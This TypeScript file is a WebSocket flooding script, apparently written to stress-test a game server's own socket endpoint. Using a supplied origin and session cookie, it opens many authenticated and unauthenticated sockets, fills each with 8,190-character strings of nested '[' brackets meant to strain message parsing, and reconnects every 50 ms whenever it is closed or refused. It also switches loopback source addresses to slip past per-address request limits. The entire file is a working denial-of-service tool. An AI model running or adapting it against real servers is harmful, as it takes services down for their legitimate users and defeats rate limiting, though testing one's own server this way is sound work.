/** The inside of an attack: one guest with as many sockets as he may have, each full of brackets; as many of nobody where there are no sockets; what is closed is opened again. */
import { WebSocket } from 'ws'

const SOCKETS = 12
const BRACKETS = '['.repeat(8190)
const MOST_WAITING = 1_000_000
const AT_ONCE = 32
const AGAIN_MS = 50

const [origin = '', cookie = ''] = process.argv.slice(2)
const told = { sent: 0, opened: 0, turnedAway: 0, nowhere: 0 }

/** Other networks than that of those who play: what they use up of requests is their own. Only Linux has them without being asked. */
const from = (localAddress: string) => (process.platform === 'linux' ? { localAddress } : {})
const GUEST = { path: '/socket', counted: 'opened', settings: { origin, headers: { cookie }, ...from('127.0.0.2') } } as const
const NOBODY = { path: '/nothing', counted: 'nowhere', settings: from('127.0.0.3') } as const

function flood(who: typeof GUEST | typeof NOBODY): void {
  const { path, counted, settings } = who
  const socket = new WebSocket(origin.replace('http', 'ws') + path, { perMessageDeflate: false, ...settings })
  const again = () => {
    socket.removeAllListeners('close')
    setTimeout(() => flood(who), AGAIN_MS)
  }
  const more = () => {
    for (let n = 0; n < AT_ONCE && socket.readyState === socket.OPEN && socket.bufferedAmount < MOST_WAITING; n++) {
      socket.send(BRACKETS)
      told.sent++
    }
    if (socket.readyState === socket.OPEN) setImmediate(more)
  }
  socket.on('open', () => {
    told[counted]++
    more()
  })
  socket.on('unexpected-response', request => {
    told.turnedAway++
    request.destroy()
    again()
  })
  socket.on('error', () => undefined)
  socket.on('close', again)
}
for (let n = 0; n < SOCKETS; n++) for (const who of [GUEST, NOBODY]) flood(who)
process.on('SIGTERM', () => {
  console.log(JSON.stringify(told))
  process.exit(0)
})
console.log('begun')
